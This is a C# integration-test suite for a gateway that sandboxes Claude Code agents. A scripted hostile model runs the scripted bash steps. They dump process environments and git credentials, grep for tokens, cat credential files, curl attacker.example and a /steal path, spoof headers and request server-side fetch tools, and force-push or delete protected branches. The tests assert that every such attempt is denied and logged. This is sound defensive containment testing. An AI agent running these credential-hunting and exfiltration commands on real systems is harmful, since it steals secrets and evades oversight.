using ClaudeHooks.Agents;
using System.Text.Json;
using ClaudeHooks.Gateway;
using ClaudeHooks.Tasks;
using ClaudeHooks.TestServers;
using ClaudeHooks.Workdir;

namespace ClaudeHooks.IntegrationTests.Gateway;

/// <summary>
/// The real CLI in a sandbox, driven by a hostile scripted model, against the gateway: it hunts for credentials
/// everywhere a process can look, tries every way out, and pushes where its role may not. Nothing it finds is a
/// real credential, every way out but the gateway's routes fails, and every attempt is in the egress log.
/// </summary>
[Collection(DockerCollection.Name)]
public sealed class GatewayAttackTests(DockerFixture fixture)
{
    private static readonly TimeSpan Timeout = TimeSpan.FromMinutes(4);

    [SkippableFact]
    public async Task HostileAgent_FindsNoCredential_AndEveryWayOutButTheGatewayFails()
    {
        Skip.If(fixture.SkipReason is not null, fixture.SkipReason);
        using var cts = new CancellationTokenSource(Timeout);
        fixture.Git.RequiredToken = fixture.DevToken;
        var id = Guid.NewGuid().ToString("N")[..8];
        var repo = await fixture.Git.CreateRepositoryAsync("it-owner", $"seed-{id}", new Dictionary<string, string> { ["README.md"] = "# seed\n" });
        var before = fixture.Model.Requests.Count;

        // The seed-001 replay: read every environment, git's config and credential helper, the filesystem; then
        // try every way out. The credential values are never spelled in a command: the agent does not know them.
        fixture.Model.EnqueueFor($"hunt-{id}",
            ScriptedTurn.Bash("env; echo ---environ; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; echo ---git; git config -l --show-origin"),
            ScriptedTurn.Bash("printf 'protocol=http\\nhost=127.0.0.1:7411\\n\\n' | git credential fill 2>&1; printf 'protocol=https\\nhost=attacker.example\\n\\n' | git credential fill 2>&1; echo credential-done"),
            ScriptedTurn.Bash("grep -rIlsE 'forge-token|sk-ant-api03-stand|stand-in|accessToken' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null | head; ls -la ~ /tmp /run/claude-hooks/gateway 2>&1; cat ~/.claude/.credentials.json /run/claude-credentials/.credentials.json 2>&1; echo grep-done"),
            ScriptedTurn.Bash("ls /sys/class/net; getent hosts attacker.example; echo resolve=$?; curl -s -m 3 --noproxy '*' 'http://[2001:db8::1]/' ; echo ipv6=$?; curl -s -m 3 --noproxy '*' http://10.0.0.1/; echo direct=$?"),
            ScriptedTurn.Bash($"curl -s -m 5 http://denied-{id}.example/steal; echo; echo http=$?; curl -s -m 5 https://denied-{id}.example/; echo connect=$?"),
            ScriptedTurn.Bash("curl -s -m 5 -X POST -H 'content-type: application/json' -d '{}' http://127.0.0.1:7411/v1/files; echo; curl -s -m 5 http://127.0.0.1:7411/v1/models; echo; curl -s -m 5 http://127.0.0.1:7411/; echo; echo files-done"),
            ScriptedTurn.Bash("m=http://127.0.0.1:7411/v1/messages; curl -s -m 5 -o /dev/null -H 'Host: evil.example' -H 'X-Forwarded-For: 203.0.113.9' -H 'content-type: application/json' -d '{\"model\":\"m\",\"max_tokens\":5,\"messages\":[{\"role\":\"user\",\"content\":\"host-probe\"}]}' $m; " +
                "curl -s -m 5 -H 'content-type: application/json' -d '{\"model\":\"m\",\"max_tokens\":5,\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://x.example/\"}],\"messages\":[]}' $m; echo; " +
                "curl -s -m 5 -H 'content-type: application/json' -d '{\"model\":\"m\",\"max_tokens\":5,\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}],\"messages\":[]}' $m; echo; echo server-tools-done"),
            ScriptedTurn.Text("Nothing useful here."));

        var (task, outcome) = await fixture.RunToEndAsync("dev", repo, $"issue-{id}", $"hunt-{id}: look around.", cts.Token);
        await fixture.Egress.FlushAsync(cts.Token);
        var events = await fixture.Store.GetEventsAsync(task.Id, 0, cts.Token);
        var seen = ToolResults(events);
        var egress = await fixture.Egress.QueryAsync(new EgressQuery(null, task.Id, null, null, null, 1000), cts.Token);
        var modelRequests = fixture.Model.Requests.Skip(before).ToList();

        Assert.True(outcome.Status == RunStatus.Succeeded, outcome.Reason);
        Assert.Contains("files-done", seen, StringComparison.Ordinal);

        // No credential, its own included, in anything the agent saw.
        foreach (var (what, secret) in Secrets())
        {
            Assert.False(seen.Contains(secret, StringComparison.Ordinal), $"{what} reached a tool result");
            Assert.DoesNotContain(events, e => e.Data.Contains(secret, StringComparison.Ordinal));
        }

        Assert.Contains($"ANTHROPIC_API_KEY={ModelCredential.Placeholder}", seen, StringComparison.Ordinal);
        Assert.DoesNotContain("password=", seen, StringComparison.Ordinal);
        Assert.Contains("credential-done", seen, StringComparison.Ordinal);
        Assert.Contains("grep-done", seen, StringComparison.Ordinal);

        // No network but loopback: no name resolves, no address is reached except through the gateway.
        Assert.Contains("lo\n", seen, StringComparison.Ordinal);
        Assert.DoesNotContain("eth0", seen, StringComparison.Ordinal);
        Assert.Contains("resolve=2", seen, StringComparison.Ordinal);
        Assert.DoesNotContain("ipv6=0", seen, StringComparison.Ordinal);
        Assert.DoesNotContain("direct=0", seen, StringComparison.Ordinal);

        // The proxy and the model route refuse with a body that names the rule and the key to change.
        Assert.Contains("\"rule\":\"default deny\"", seen, StringComparison.Ordinal);
        Assert.Contains("\"config_key\":\"agents.dev.egress_allow\"", seen, StringComparison.Ordinal);
        Assert.DoesNotContain("connect=0", seen, StringComparison.Ordinal);
        Assert.Contains("is not a path Claude Code needs for a run", seen, StringComparison.Ordinal);
        Assert.Contains("no such route", seen, StringComparison.Ordinal);

        // The model saw the agent's real key on every request, never the placeholder.
        Assert.NotEmpty(modelRequests);
        Assert.All(modelRequests, r => Assert.Equal("sk-ant-api03-stand-in-dev", r.Header("x-api-key")));
        Assert.DoesNotContain(modelRequests, r => r.Headers.Values.Any(v => v.Contains(ModelCredential.Placeholder, StringComparison.Ordinal)));
        Assert.DoesNotContain(modelRequests, r => r.Path.StartsWith("/v1/files", StringComparison.Ordinal));

        // The sandbox names neither the upstream's host (also its TLS name) nor where the request came from, and
        // cannot make the model's servers reach out for it.
        var probe = Assert.Single(modelRequests, r => !r.IsConversation && r.Body.Contains("\"content\":\"host-probe\"", StringComparison.Ordinal));
        Assert.Equal(fixture.Config.Model.BaseUrl!.Authority, probe.Header("host"));
        Assert.Null(probe.Header("x-forwarded-for"));
        Assert.Contains("mcp_servers would let the model's servers connect anywhere", seen, StringComparison.Ordinal);
        Assert.Contains("the server-side tool web_fetch_20250910 would reach out", seen, StringComparison.Ordinal);
        Assert.DoesNotContain(modelRequests, r => !r.IsConversation && (r.Body.Contains("mcp_servers", StringComparison.Ordinal) || r.Body.Contains("web_fetch_2025", StringComparison.Ordinal)));

        // Every attempt is in the egress log with its task, and each denial is also an event of the task.
        Assert.Contains(egress, r => r is { Route: EgressRecord.HttpRoute, Decision: EgressRecord.Denied } && r.Host.StartsWith($"denied-{id}.example", StringComparison.Ordinal));
        Assert.Contains(egress, r => r is { Route: EgressRecord.ConnectRoute, Decision: EgressRecord.Denied } && r.Host == $"denied-{id}.example:443");
        Assert.Contains(egress, r => r is { Route: EgressRecord.ModelRoute, Decision: EgressRecord.Denied, Path: "/v1/files" });
        Assert.Contains(egress, r => r is { Route: EgressRecord.ModelRoute, Decision: EgressRecord.Allowed, Path: "/v1/messages", Status: 200 });
        Assert.Contains(egress, r => r is { Route: EgressRecord.GitRoute, Decision: EgressRecord.Allowed });
        Assert.All(egress, r => Assert.Equal("dev", r.Agent));
        Assert.DoesNotContain(egress, r => r.Path.Contains('?', StringComparison.Ordinal));
        Assert.True(events.Count(e => e.Type == "gateway/denied") >= 3, string.Join(", ", events.Select(e => e.Type)));
    }

    [SkippableFact]
    public async Task GitPolicy_OwnBranchOnly_AndReviewerPushesNothing_RemoteUnchanged()
    {
        Skip.If(fixture.SkipReason is not null, fixture.SkipReason);
        using var cts = new CancellationTokenSource(Timeout);
        fixture.Git.RequiredToken = null;
        var id = Guid.NewGuid().ToString("N")[..8];
        var repo = await fixture.Git.CreateRepositoryAsync("it-owner", $"policy-{id}", new Dictionary<string, string> { ["README.md"] = "# policy\n" });
        var other = await fixture.Git.CreateRepositoryAsync("it-owner", $"other-{id}", new Dictionary<string, string> { ["README.md"] = "# other\n" });
        var bare = fixture.Git.BarePath("it-owner", $"policy-{id}");
        var mainBefore = await RefAsync(bare, "refs/heads/main");
        var thread = $"issue-{id}";

        fixture.Model.EnqueueFor($"push-{id}",
            ScriptedTurn.Bash($"echo a >> README.md && git commit -qam own && git fetch -q origin && git push origin HEAD:dev/{thread} 2>&1; echo own=$?"),
            ScriptedTurn.Bash("git push origin HEAD:main 2>&1; echo main=$?; git push origin HEAD:refs/tags/v9.9.9 2>&1; echo tag=$?; git push origin HEAD:reviewer/pr-1 2>&1; echo other=$?"),
            ScriptedTurn.Bash($"git push origin --force HEAD~1:dev/{thread} 2>&1; echo force=$?; git push origin HEAD:dev/{thread} 2>&1; git push origin :dev/{thread} 2>&1; echo delete=$?"),
            ScriptedTurn.Bash($"git ls-remote http://127.0.0.1:7411/git/it-owner/other-{id}.git 2>&1; echo fetch-other=$?; echo o >> README.md && git commit -qam options && git push -o repo.private=false origin HEAD:dev/{thread} 2>&1; echo options=$?; echo done"),
            ScriptedTurn.Text("Pushed what I could."));
        var (_, outcome) = await fixture.RunToEndAsync("dev", repo, thread, $"push-{id}: push everywhere.", cts.Token);
        var seen = ToolResults(await fixture.Store.GetEventsAsync((await LastTaskAsync("dev", cts.Token)).Id, 0, cts.Token));

        Assert.True(outcome.Status == RunStatus.Succeeded, outcome.Reason);
        Assert.Contains("own=0", seen, StringComparison.Ordinal);
        Assert.Contains("force=0", seen, StringComparison.Ordinal);
        foreach (var refused in new[] { "main=1", "tag=1", "other=1", "delete=1", "fetch-other=128", "options=1" })
        {
            Assert.True(seen.Contains(refused, StringComparison.Ordinal), $"no {refused} in:\n{seen}");
        }

        Assert.Contains($"claude-hooks policy: refs/heads/main is not this task's branch; the dev role may push only refs/heads/dev/{thread} (agents.dev.role)", seen, StringComparison.Ordinal);
        Assert.Contains("claude-hooks policy: tags are never pushed", seen, StringComparison.Ordinal);
        Assert.Contains("claude-hooks policy: push options (git push -o) are not accepted", seen, StringComparison.Ordinal);
        Assert.Contains($"claude-hooks policy: deleting refs/heads/dev/{thread} is refused", seen, StringComparison.Ordinal);
        Assert.Equal(mainBefore, await RefAsync(bare, "refs/heads/main"));
        Assert.Null(await RefAsync(bare, "refs/tags/v9.9.9"));
        Assert.Null(await RefAsync(bare, "refs/heads/reviewer/pr-1"));
        Assert.NotNull(await RefAsync(bare, $"refs/heads/dev/{thread}"));
        Assert.Null(await RefAsync(fixture.Git.BarePath("it-owner", $"other-{id}"), $"refs/heads/dev/{thread}"));
        Assert.NotNull(other);

        // The reviewer pushes nothing, through its own remote or through the service after its run.
        var reviewerBefore = await AllRefsAsync(bare);
        fixture.Model.EnqueueFor($"review-{id}",
            ScriptedTurn.Bash($"echo r >> README.md && git commit -qam review && git push origin HEAD:dev/{thread} 2>&1; echo review-own=$?; git push origin HEAD:reviewer/pr-{id} 2>&1; echo review-branch=$?"),
            ScriptedTurn.Text("""{"event":"COMMENT","body":"ok","comments":[]}"""));
        var (_, review) = await fixture.RunToEndAsync("reviewer", repo, $"pr-{id}", $"review-{id}: review it.", cts.Token, baseRef: $"dev/{thread}");
        var reviewSeen = ToolResults(await fixture.Store.GetEventsAsync((await LastTaskAsync("reviewer", cts.Token)).Id, 0, cts.Token));

        Assert.True(review.Status == RunStatus.Succeeded, review.Reason);
        Assert.Contains("review-own=1", reviewSeen, StringComparison.Ordinal);
        Assert.Contains("review-branch=1", reviewSeen, StringComparison.Ordinal);
        Assert.Contains("claude-hooks policy: the reviewer role pushes nothing (agents.reviewer.role)", reviewSeen, StringComparison.Ordinal);
        Assert.Contains("the reviewer role pushes nothing", review.Reason, StringComparison.Ordinal);
        Assert.Equal(reviewerBefore, await AllRefsAsync(bare));
    }

    [SkippableFact]
    public async Task EgressAllowlist_ConnectToAnAllowedServerWorks_AnotherGetsTheJsonDenial_BothLogged()
    {
        Skip.If(fixture.SkipReason is not null, fixture.SkipReason);
        using var cts = new CancellationTokenSource(Timeout);
        fixture.Git.RequiredToken = null;
        var id = Guid.NewGuid().ToString("N")[..8];
        var repo = await fixture.Git.CreateRepositoryAsync("it-owner", $"egress-{id}", new Dictionary<string, string> { ["README.md"] = "# egress\n" });
        var allowed = $"{fixture.Git.CallHome}/connect-{id}";
        var denied = $"http://127.0.0.3:{fixture.Git.Port}/pwned/denied-{id}";

        fixture.Model.EnqueueFor($"egress-{id}",
            ScriptedTurn.Bash($"curl -s -p -m 5 -o /dev/null -w 'allowed=%{{http_code}}\\n' {allowed}; curl -s -p -m 5 -o /dev/null -w 'tunnel=%{{http_connect}}\\n' {denied}; echo tunnel-exit=$?; curl -s -m 5 {denied}; echo; echo egress-done"),
            ScriptedTurn.Text("done"));
        var (task, outcome) = await fixture.RunToEndAsync("dev", repo, $"issue-{id}", $"egress-{id}: reach out.", cts.Token);
        await fixture.Egress.FlushAsync(cts.Token);
        var seen = ToolResults(await fixture.Store.GetEventsAsync(task.Id, 0, cts.Token));
        var log = await fixture.Egress.QueryAsync(new EgressQuery(null, task.Id, null, null, null, 1000), cts.Token);

        Assert.True(outcome.Status == RunStatus.Succeeded, outcome.Reason);
        Assert.Contains("allowed=404", seen, StringComparison.Ordinal);
        Assert.Contains(fixture.Git.RequestPaths, p => p == $"/pwned/connect-{id}");
        Assert.DoesNotContain(fixture.Git.RequestPaths, p => p.Contains($"denied-{id}", StringComparison.Ordinal));
        Assert.Contains("tunnel=403", seen, StringComparison.Ordinal);
        Assert.Contains($"\"host\":\"127.0.0.3\",\"port\":{fixture.Git.Port},\"rule\":\"default deny\",\"config_key\":\"agents.dev.egress_allow\"", seen, StringComparison.Ordinal);
        Assert.Contains(log, r => r is { Route: EgressRecord.ConnectRoute, Decision: EgressRecord.Allowed, Status: 200 } && r.Rule == fixture.Git.CallHomeRule && r.BytesIn > 0 && r.BytesOut > 0);
        Assert.Contains(log, r => r is { Route: EgressRecord.ConnectRoute, Decision: EgressRecord.Denied, Status: 403 } && r.Host == $"127.0.0.3:{fixture.Git.Port}");
        Assert.Contains(log, r => r is { Route: EgressRecord.HttpRoute, Decision: EgressRecord.Denied } && r.Path == $"/pwned/denied-{id}");
    }

    [SkippableFact]
    public async Task ModelRoute_RotatedKeyIsUsedByTheNextRequest_AMissingOrExpiredOneFailsTheTaskWithTheFix()
    {
        Skip.If(fixture.SkipReason is not null, fixture.SkipReason);
        using var cts = new CancellationTokenSource(Timeout);
        fixture.Git.RequiredToken = null;
        var id = Guid.NewGuid().ToString("N")[..8];
        var repo = await fixture.Git.CreateRepositoryAsync("it-owner", $"model-{id}", new Dictionary<string, string> { ["README.md"] = "# model\n" });
        var keyFile = fixture.Config.Find("dev")!.ClaudeAuth.Path;
        var original = await File.ReadAllTextAsync(keyFile, cts.Token);
        var credentials = Path.Combine(fixture.CredentialsDirectory, ".credentials.json");
        var originalLogin = await File.ReadAllTextAsync(credentials, cts.Token);
        try
        {
            // A two-turn run streams through the gateway; the key is rotated on the host before the next task.
            fixture.Model.EnqueueFor($"first-{id}", ScriptedTurn.Bash("echo turn-one"), ScriptedTurn.Text("first done"));
            var (_, first) = await fixture.RunToEndAsync("dev", repo, $"a-{id}", $"first-{id}: go.", cts.Token);
            var firstRequests = fixture.Model.ConversationRequests.Where(r => r.Body.Contains($"first-{id}", StringComparison.Ordinal)).ToList();
            AgentSandbox.WriteSecret(keyFile, $"sk-ant-api03-rotated-{id}");
            fixture.Model.EnqueueFor($"second-{id}", ScriptedTurn.Text("second done"));
            var (_, second) = await fixture.RunToEndAsync("dev", repo, $"b-{id}", $"second-{id}: go.", cts.Token);
            var secondRequests = fixture.Model.ConversationRequests.Where(r => r.Body.Contains($"second-{id}", StringComparison.Ordinal)).ToList();

            Assert.True(first.Status == RunStatus.Succeeded, first.Reason);
            Assert.Equal(2, first.Turns);
            Assert.True(firstRequests.Count >= 2);
            Assert.All(firstRequests, r => Assert.Equal(original.Trim(), r.Header("x-api-key")));
            Assert.True(second.Status == RunStatus.Succeeded, second.Reason);
            Assert.All(secondRequests, r => Assert.Equal($"sk-ant-api03-rotated-{id}", r.Header("x-api-key")));

            // A missing key file: the request fails at the gateway, and the task with the fix naming the file.
            File.Delete(keyFile);
            var (_, missing) = await fixture.RunToEndAsync("dev", repo, $"m-{id}", $"missing-{id}: go.", cts.Token);

            Assert.Equal(RunStatus.Failed, missing.Status);
            Assert.Contains($"{keyFile}: not found; write the dev agent's Anthropic API key there", missing.Reason, StringComparison.Ordinal);
            Assert.DoesNotContain(fixture.Model.Requests, r => r.Body.Contains($"missing-{id}", StringComparison.Ordinal));

            // The lead's login (a credentials directory) is refreshed by rename on the host: the gateway reads the new
            // access token; once it has expired, the task fails with the fix and the refresh token never moves.
            var refreshed = Login($"sk-ant-oat01-refreshed-{id}", $"sk-ant-ort01-refresh-{id}", DateTimeOffset.UtcNow.AddHours(1));
            AgentSandbox.WriteSecret(credentials + ".new", refreshed);
            File.Move(credentials + ".new", credentials, overwrite: true);
            fixture.Model.EnqueueFor($"lead-{id}", ScriptedTurn.Text("lead done"));
            var (_, lead) = await fixture.RunToEndAsync("boss", repo, $"c-{id}", $"lead-{id}: go.", cts.Token);
            var leadRequests = fixture.Model.ConversationRequests.Where(r => r.Body.Contains($"lead-{id}", StringComparison.Ordinal)).ToList();

            Assert.True(lead.Status == RunStatus.Succeeded, lead.Reason);
            Assert.All(leadRequests, r => Assert.Equal($"Bearer sk-ant-oat01-refreshed-{id}", r.Header("authorization")));
            Assert.DoesNotContain(fixture.Model.Requests, r => r.Headers.Values.Any(v => v.Contains($"refresh-{id}", StringComparison.Ordinal)) || r.Body.Contains($"refresh-{id}", StringComparison.Ordinal));

            var expired = Login($"sk-ant-oat01-expired-{id}", null, DateTimeOffset.UtcNow.AddMinutes(-5));
            AgentSandbox.WriteSecret(credentials, expired);
            var (_, failed) = await fixture.RunToEndAsync("boss", repo, $"d-{id}", $"expired-{id}: go.", cts.Token);

            Assert.Equal(RunStatus.Failed, failed.Status);
            Assert.Contains("the OAuth access token expired at", failed.Reason, StringComparison.Ordinal);
            Assert.Contains("run 'claude' on the host", failed.Reason, StringComparison.Ordinal);
            Assert.DoesNotContain(fixture.Model.Requests, r => r.Body.Contains($"expired-{id}", StringComparison.Ordinal));
        }
        finally
        {
            AgentSandbox.WriteSecret(keyFile, original);
            AgentSandbox.WriteSecret(credentials, originalLogin);
        }
    }

    [SkippableFact]
    public async Task ServiceRestart_WhileASandboxRuns_TheNextRequestThroughItsSocketWorks()
    {
        Skip.If(fixture.SkipReason is not null, fixture.SkipReason);
        using var cts = new CancellationTokenSource(Timeout);
        fixture.Git.RequiredToken = null;
        var id = Guid.NewGuid().ToString("N")[..8];
        var repo = await fixture.Git.CreateRepositoryAsync("it-owner", $"restart-{id}", new Dictionary<string, string> { ["README.md"] = "# restart\n" });
        var repository = RepositoryUrl.Parse(repo, allowLocal: false);
        var dev = fixture.Config.Find("dev")! with { WarmSandboxes = 0 };
        var config = fixture.Config with { Agents = [dev] };
        var taskId = $"restart{id}";
        var probe = $"curl -s -m 5 -o /dev/null -w '%{{http_code}}' '{ClaudeHooks.Gateway.HostGateway.LocalUrl}{repository.GatewayPath}/info/refs?service=git-upload-pack'";

        var first = new ClaudeHooks.Gateway.HostGateway(config, fixture.Paths, null, _ => { }, TimeProvider.System, Microsoft.Extensions.Logging.Abstractions.NullLoggerFactory.Instance);
        await first.StartAsync([], cts.Token);
        var sandboxes = new ClaudeHooks.Containers.SandboxManager(fixture.Runtime, config, first, Microsoft.Extensions.Logging.Abstractions.NullLogger<ClaudeHooks.Containers.SandboxManager>.Instance);
        var sandbox = await sandboxes.AcquireAsync(dev, taskId, cts.Token);
        ClaudeHooks.Gateway.HostGateway? second = null;
        try
        {
            first.BindTask(taskId, dev, repository, "issue-1");
            first.AttachSandbox(sandbox.SocketId, dev.Name, taskId);
            var before = await fixture.Runtime.ExecAsync(sandbox.Id, ["sh", "-c", probe], user: "claude", cancellationToken: cts.Token);
            await first.DisposeAsync();
            var down = await fixture.Runtime.ExecAsync(sandbox.Id, ["sh", "-c", probe], user: "claude", cancellationToken: cts.Token);

            // A new process: it takes back the sockets of the sandboxes that still run, bound to the same task.
            second = new ClaudeHooks.Gateway.HostGateway(config, fixture.Paths, null, _ => { }, TimeProvider.System, Microsoft.Extensions.Logging.Abstractions.NullLoggerFactory.Instance);
            await second.StartAsync([sandbox.SocketId], cts.Token);
            var after = await fixture.Runtime.ExecAsync(sandbox.Id, ["sh", "-c", probe], user: "claude", cancellationToken: cts.Token);
            var elsewhere = await fixture.Runtime.ExecAsync(sandbox.Id, ["sh", "-c", probe.Replace($"restart-{id}", $"nothere-{id}", StringComparison.Ordinal)], user: "claude", cancellationToken: cts.Token);

            Assert.Equal("200", before.Stdout);
            Assert.NotEqual("200", down.Stdout);
            Assert.Equal("200", after.Stdout);
            Assert.Equal("403", elsewhere.Stdout);
        }
        finally
        {
            var manager = new ClaudeHooks.Containers.SandboxManager(fixture.Runtime, config, second ?? first, Microsoft.Extensions.Logging.Abstractions.NullLogger<ClaudeHooks.Containers.SandboxManager>.Instance);
            await manager.ReleaseAsync(sandbox);
            if (second is not null)
            {
                await second.DisposeAsync();
            }
        }
    }

    /// <summary>A Claude login file as <c>claude login</c> writes it.</summary>
    private static string Login(string access, string? refresh, DateTimeOffset expires) =>
        JsonSerializer.Serialize(new { claudeAiOauth = new { accessToken = access, refreshToken = refresh, expiresAt = expires.ToUnixTimeMilliseconds() } });

    private IEnumerable<(string What, string Value)> Secrets()
    {
        foreach (var agent in new[] { "boss", "dev", "reviewer" })
        {
            yield return ($"the {agent} forge token", File.ReadAllText(fixture.Paths.TokenFile(agent)).Trim());
        }

        yield return ("the dev model key", "sk-ant-api03-stand-in-dev");
        yield return ("the reviewer model token", "sk-ant-oat01-stand-in-reviewer");
        yield return ("the lead's access token", "stand-in-1");
    }

    private async Task<TaskRecord> LastTaskAsync(string agent, CancellationToken cancellationToken) =>
        (await fixture.Store.ListTasksAsync(new TaskQuery(null, agent, null, 1, null), cancellationToken)).First();

    private static async Task<string?> RefAsync(string bare, string name)
    {
        try
        {
            return (await GitHttpServer.GitAsync(bare, "rev-parse", "--verify", "-q", name)).Trim();
        }
        catch (InvalidOperationException)
        {
            return null;
        }
    }

    private static Task<string> AllRefsAsync(string bare) => GitHttpServer.GitAsync(bare, "for-each-ref", "--format=%(refname) %(objectname)");

    private static string ToolResults(IReadOnlyList<StoredEvent> events) =>
        string.Join("\n", events.Where(e => e.Type == "user/tool_result").Select(e => JsonDocument.Parse(e.Data).RootElement.GetProperty("message").GetProperty("content")[0].GetProperty("content").ToString()));
}
